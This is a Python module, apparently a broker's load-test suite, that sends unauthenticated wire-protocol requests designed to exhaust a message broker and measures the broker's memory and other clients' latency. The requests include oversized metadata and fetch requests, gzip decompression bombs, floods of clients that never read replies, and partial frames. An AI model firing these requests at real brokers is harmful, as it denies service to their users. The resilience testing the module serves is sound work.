"""Requests that cost a broker much more than their client, and that any client may send without authorization.

Each attack is a function of a port that sends requests, waits for the answers and returns; meanwhile :class:`Beside`
measures another client's latencies. Run as a program this module prints a table for the broker on a port: ``python -m
wire.attacks PORT PID [name ...]`` with ``tests`` on the path.
"""

from __future__ import annotations

import gzip
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Final, Self

from crc32c import crc32c

from peer.wire_socket import METADATA, ConnectionClosedError, WireSocket, frame, request_header

PRODUCE: Final = 0
FETCH: Final = 1
LIST_OFFSETS: Final = 2
TOPIC: Final = b"attacked"
ANSWER_LIMIT_S: Final = 120.0


def string(text: bytes) -> bytes:
    return struct.pack(">h", len(text)) + text


def metadata(names: list[bytes], create: bool = False) -> bytes:
    body = struct.pack(">i", len(names)) + b"".join(map(string, names)) + struct.pack(">?", create)
    return frame(request_header(METADATA, 4) + body)


ALL_TOPICS: Final = frame(request_header(METADATA, 4) + struct.pack(">i?", -1, False))


def fetch(topics: list[tuple[bytes, list[int]]], session: tuple[int, int] = (0, -1), max_wait_ms: int = 0) -> bytes:
    body = struct.pack(">iiiibii", -1, max_wait_ms, 1, 50 << 20, 0, *session) + struct.pack(">i", len(topics))
    for name, partitions in topics:
        rows = [struct.pack(">iqqi", index, 0, -1, 31_000) for index in partitions]
        body += string(name) + struct.pack(">i", len(rows)) + b"".join(rows)
    return frame(request_header(FETCH, 7) + body + struct.pack(">i", 0))


def list_offsets(rows: int) -> bytes:
    one = struct.pack(">iq", 0, 1)
    body = struct.pack(">ii", -1, 1) + string(TOPIC) + struct.pack(">i", rows) + one * rows
    return frame(request_header(LIST_OFFSETS, 1) + body)


def produce(topic: bytes, batches: list[bytes]) -> bytes:
    rows = b"".join(struct.pack(">ii", index, len(batch)) + batch for index, batch in enumerate(batches))
    body = struct.pack(">hhii", -1, 1, 30_000, 1) + string(topic) + struct.pack(">i", len(batches)) + rows
    return frame(request_header(PRODUCE, 8) + body)


def _varint(value: int) -> bytes:
    zigzag, out = value << 1 if value >= 0 else ((-value) << 1) - 1, bytearray()
    while zigzag >= 0x80:
        out.append((zigzag & 0x7F) | 0x80)
        zigzag >>= 7
    return bytes(out) + bytes([zigzag])


def batch(value: bytes, timestamp_ms: int, compressed: bool = False) -> bytes:
    """A v2 batch of one record with a key."""
    body = b"\0" + _varint(0) + _varint(0) + _varint(1) + b"k" + _varint(len(value)) + value + _varint(0)
    records = _varint(len(body)) + body
    if compressed:
        records = gzip.compress(records, 9)
    fields = struct.pack(">hiqqqhii", int(compressed), 0, timestamp_ms, timestamp_ms, -1, -1, -1, 1)
    after_crc = fields + records
    after_length = struct.pack(">ib", 0, 2) + struct.pack(">I", crc32c(after_crc)) + after_crc
    return struct.pack(">qi", 0, len(after_length)) + after_length


def prepare(port: int) -> None:
    """Creates the topic, with a batch in its first partition."""
    ask(port, metadata([TOPIC], create=True))
    ask(port, produce(TOPIC, [batch(bytes(30_000), int(time.time() * 1000))]))


def bombs(port: int) -> str:
    """Fifty batches of 60 KB that inflate to 60 MB each, two hours ahead."""
    ahead = batch(bytes(60 << 20), int(time.time() * 1000) + 7_200_000, compressed=True)
    return ask(port, produce(TOPIC, [ahead] * 50))


def ask(port: int, request: bytes) -> str:
    """Sends the request; returns the size of the answer, or that the broker closed the connection."""
    with WireSocket(port, timeout_s=ANSWER_LIMIT_S) as client:
        try:
            client.send(request)
            size = struct.unpack(">i", client.receive_exactly(4))[0]
            client.receive_exactly(size)
        except (ConnectionClosedError, ConnectionResetError, BrokenPipeError):
            return "closed"
        return f"{size:,} bytes"


def many(port: int, count: int, request: bytes, times: int = 1, keep_s: float = 5.0) -> str:
    """Opens ``count`` clients that send requests and never read the answers."""
    clients: list[socket.socket] = []
    for _ in range(count):
        try:
            client = socket.create_connection(("127.0.0.1", port), timeout=10)
            client.setblocking(False)
            client.send(request * times)
        except OSError:
            continue
        clients.append(client)
    time.sleep(keep_s)
    for client in clients:
        client.close()
    return f"{len(clients)} clients"


def frames_in_parts(port: int) -> str:
    return many(port, 500, struct.pack(">i", 100 << 20) + bytes(400_000), keep_s=2.0)


ATTACKS: Final[dict[str, Callable[[int], str]]] = {
    "metadata: one name 100,000 times": lambda port: ask(port, metadata([TOPIC] * 100_000)),
    "metadata: 100,000 unknown names": lambda port: ask(port, metadata([b"no-%d" % i for i in range(100_000)])),
    "metadata: all topics, 300 clients": lambda port: many(port, 300, ALL_TOPICS),
    "fetch: 100,000 unknown partitions": lambda port: ask(port, fetch([(TOPIC, list(range(9, 100_009)))])),
    "fetch: one partition 100,000 times": lambda port: ask(port, fetch([(TOPIC, [0] * 100_000)])),
    "fetch: 30 sessions of 50,000 partitions": lambda port: [
        ask(port, fetch([(TOPIC, list(range(50_000)))], (0, 0))) for _ in range(30)
    ][-1],
    "fetch: answers that nobody reads, 400 clients": lambda port: many(port, 400, fetch([(TOPIC, [0])]), times=300),
    "produce: 50 payloads that inflate to 60 MB": bombs,
    "list offsets: one partition 100,000 times": lambda port: ask(port, list_offsets(100_000)),
    "frames in parts: 500 clients": frames_in_parts,
}


def rss_kb(pid: int) -> int:
    fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":" in line)
    return int(fields["VmRSS"].split()[0])


class Beside:
    """Another client's requests during an attack: how many were answered, the longest latency, and the broker's peak of
    memory."""

    def __init__(self, port: int, pid: int, request: bytes) -> None:
        self.port, self.pid, self.request = port, pid, request
        self.answers, self.longest_s, self.peak_kb = 0, 0.0, rss_kb(pid)
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self._ask, daemon=True),
            threading.Thread(target=self._look, daemon=True),
        ]

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(ANSWER_LIMIT_S)

    def _ask(self) -> None:
        with WireSocket(self.port, timeout_s=ANSWER_LIMIT_S) as client:
            while not self._stop.is_set():
                began = time.monotonic()
                client.send(self.request)
                client.receive_exactly(struct.unpack(">i", client.receive_exactly(4))[0])
                self.longest_s = max(self.longest_s, time.monotonic() - began)
                self.answers += 1
                time.sleep(0.002)

    def _look(self) -> None:
        while not self._stop.wait(0.01):
            self.peak_kb = max(self.peak_kb, rss_kb(self.pid))


def main() -> None:
    port, pid, names = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
    print(
        "| attack | answer | s | longest of another client, ms | MB at the peak | MB 5 s later "
        "|\n|---|---|---|---|---|---|"
    )
    for name, attack in ATTACKS.items():
        if names and not any(part in name for part in names):
            continue
        idle = rss_kb(pid)
        began = time.monotonic()
        with Beside(port, pid, metadata([TOPIC])) as other:
            answer = attack(port)
        took = time.monotonic() - began
        time.sleep(5)
        peak, later = (other.peak_kb - idle) / 1024, (rss_kb(pid) - idle) / 1024
        print(
            f"| {name} | {answer} | {took:.1f} | {other.longest_s * 1000:.0f} | {peak:.0f} | {later:.0f} |", flush=True
        )


if __name__ == "__main__":
    main()
